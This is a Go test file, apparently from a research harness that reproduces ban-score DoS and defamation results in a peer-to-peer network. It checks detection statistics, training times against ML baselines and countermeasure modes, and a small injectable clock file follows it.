	defamation, _ := res.Case("under-Defamation")

	// PING dominates the BM-DoS distribution (paper: 94.16%).
	if dos.Distribution["ping"] < 0.9 {
		t.Errorf("BM-DoS ping share = %.3f, want > 0.9", dos.Distribution["ping"])
	}
	// ρ ordering: BM-DoS ≪ Defamation ≤ normal (paper: 0.05 ≪ 0.88).
	if !(dos.Rho < 0.5 && dos.Rho < defamation.Rho && defamation.Rho <= 1) {
		t.Errorf("ρ ordering violated: dos=%.3f defamation=%.3f", dos.Rho, defamation.Rho)
	}
	// Defamation's reconnection rate matches the injected 5.3/min and
	// exceeds τ_c.
	if defamation.C < 4.5 || defamation.C > 6.5 {
		t.Errorf("defamation c = %.2f, want ≈ 5.3", defamation.C)
	}
	if defamation.C <= th.CMax {
		t.Errorf("defamation c %.2f should exceed τ_c max %.2f", defamation.C, th.CMax)
	}
	// BM-DoS rate far above τ_n (paper: ~15,000/min vs 390).
	if dos.N < 5*th.NMax {
		t.Errorf("BM-DoS n = %.0f, want far above τ_n max %.0f", dos.N, th.NMax)
	}
	// All three cases judged correctly → 100% accuracy.
	if !normal.Detected || !dos.Detected || !defamation.Detected {
		t.Errorf("verdicts: normal=%v dos=%v defamation=%v", normal.Detected, dos.Detected, defamation.Detected)
	}
	if res.Accuracy != 1 {
		t.Errorf("accuracy = %.3f, want 1.0", res.Accuracy)
	}
	if res.Render() == "" {
		t.Error("empty render")
	}
}

func TestFigure11Shapes(t *testing.T) {
	res, err := Figure11(QuickScale())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 8 {
		t.Fatalf("rows = %d, want Ours + 7 baselines", len(res.Rows))
	}
	ours, ok := res.Row("Ours")
	if !ok {
		t.Fatal("missing Ours")
	}
	if ours.Accuracy != 1 {
		t.Errorf("ours accuracy = %.3f, want 1.0", ours.Accuracy)
	}
	// The statistical engine trains faster than every ML baseline, and
	// the heavyweight ones (GB, DNN, AE) by a wide margin.
	for _, row := range res.Rows {
		if row.Approach == "Ours" {
			continue
		}
		if row.Train <= ours.Train {
			t.Errorf("%s trained in %v, not slower than ours (%v)", row.Approach, row.Train, ours.Train)
		}
	}
	for _, heavy := range []string{"GB", "DNN", "AE"} {
		row, _ := res.Row(heavy)
		if row.Train < 20*ours.Train {
			t.Errorf("%s train %v, want >= 20x ours (%v)", heavy, row.Train, ours.Train)
		}
	}
	if res.Render() == "" {
		t.Error("empty render")
	}
}

func TestCountermeasuresNeutralizeDefamation(t *testing.T) {
	res, err := Countermeasures(QuickScale())
	if err != nil {
		t.Fatal(err)
	}
	standard, ok := res.Row(core.ModeStandard)
	if !ok {
		t.Fatal("missing standard row")
	}
	if !standard.InnocentBanned {
		t.Error("standard mode failed to ban — the vulnerability should reproduce")
	}
	for _, mode := range []core.Mode{core.ModeThresholdInfinity, core.ModeDisabled, core.ModeGoodScore} {
		row, ok := res.Row(mode)
		if !ok {
			t.Fatalf("missing row for %v", mode)
		}
		if row.InnocentBanned {
			t.Errorf("%v mode banned the innocent peer", mode)
		}
		if !row.StillConnected {
			t.Errorf("%v mode lost the connection", mode)
		}
	}
	// Threshold-infinity keeps the score for peer-health ranking.
	inf, _ := res.Row(core.ModeThresholdInfinity)
	if inf.FinalBanScore < 300 {
		t.Errorf("threshold-infinity score = %d, want >= 300 (tracking continues)", inf.FinalBanScore)
	}
	if res.Render() == "" {
		t.Error("empty render")
	}
}

func TestVictimPeerTimesOutForUnknownPeer(t *testing.T) {
	tb, err := NewTestbed(TestbedConfig{})
	if err != nil {
		t.Fatal(err)
	}
	defer tb.Close()
	// Shorten the experiment by not connecting at all: expect an error.
	done := make(chan error, 1)
	go func() {
		_, err := tb.VictimPeer("10.9.9.9:1")
		done <- err
	}()
	select {
	case err := <-done:
		if err == nil {
			t.Error("VictimPeer succeeded for unknown peer")
		}
	case <-time.After(10 * time.Second):
		t.Fatal("VictimPeer did not time out")
	}
}

func TestCyclesConversion(t *testing.T) {
	if got := Cycles(time.Second); got != ReferenceClockHz {
		t.Errorf("Cycles(1s) = %v", got)
	}
	if got := Cycles(250 * time.Millisecond); got != ReferenceClockHz/4 {
		t.Errorf("Cycles(250ms) = %v", got)
	}
}

func TestAuthOverheadEstimate(t *testing.T) {
	// §VIII: 60,000 nodes × 34 connections / 2 = 1,020,000 links.
	got := PaperAuthOverhead()
	if got.Connections != 1020000 {
		t.Errorf("connections = %d, want 1020000", got.Connections)
	}
	small := EstimateAuthOverhead(10, 4)
	if small.Connections != 20 {
		t.Errorf("small estimate = %d, want 20", small.Connections)
	}
}
