package experiments

import "banscore/internal/vclock"

// clk is the experiment harness's single time source. The measurement
// loops (flood pacing, per-query cost timing, convergence waits) read it
// instead of package time so the banlint wallclock analyzer can prove the
// experiments' only wall-clock dependence is this injectable seam.
var clk = vclock.System()

// SetClock replaces the package clock and returns the previous one.
// Intended for tests; not safe to call while an experiment is running.
func SetClock(c vclock.Clock) vclock.Clock {
	old := clk
	clk = c
	return old
}
